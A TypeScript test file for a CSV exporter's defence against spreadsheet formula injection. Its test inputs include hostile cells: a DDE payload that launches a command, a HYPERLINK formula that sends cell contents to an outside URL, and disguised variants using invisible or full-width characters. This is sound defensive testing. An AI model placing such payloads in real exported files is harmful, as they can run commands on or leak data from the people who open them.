import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../testing/read-csv.ts';
import { csvLine } from './csv.ts';

const cellOf = (text: string) => readCsv(csvLine([text]))[0]?.[0] ?? '';

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1 614 555 0100',
    '-2',
    '@SUM(A1)',
    '\t1',
    '\r1',
    '\n1',
    '  =cmd|" /C calc"!A0',
    '"=1+1"',
    "'=1",
    '\u00a0=1',
    '\u200b=1',
    '\ufeff@x',
    '＝1+1',
    '=HYPERLINK("https://example.com?"&A1)',
  ])('that a spreadsheet would run as a formula stays text: %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each(['A faucet', '$100 to $200', '(614)-555-0100', 'a=b', '1-2', '', 'dana@example.com'])(
    'that is only text is left as it is: %j',
    (text) => expect(cellOf(text)).toBe(text),
  );

  it('starts no formula in a spreadsheet that splits at other separators', () => {
    expect(cellOf('Sink;=1+1')).toBe("Sink;'=1+1");
    expect(cellOf('First\n=1+1\n\n- a list')).toBe("First\n'=1+1\n\n'- a list");
    expect(cellOf('Tab\t"=1')).toBe('Tab\t"\'=1');
    for (const mark of '\t\r\n') expect(cellOf(`${mark}=1`)).toBe(`'${mark}'=1`);
  });

  it('is read back completely, and never starts a formula', () => {
    const hostile = fc.string({
      unit: fc.constantFrom(...'=+-@\t\r\n",;\' a1＝é\u200b'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(hostile, { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const read = readCsv(rows.map((row) => csvLine(row)).join(''));
          expect(read.map((row) => row.map((text) => text.replaceAll("'", '')))).toEqual(
            rows.map((row) => row.map((text) => text.replaceAll("'", ''))),
          );
          for (const text of read.flat()) {
            expect(text.replace(/^[\s"\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝]/);
            for (const part of text.split(/[;\t\r\n]/)) {
              expect(part.replace(/^[\s"\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝]/);
            }
          }
        },
      ),
    );
  });
});
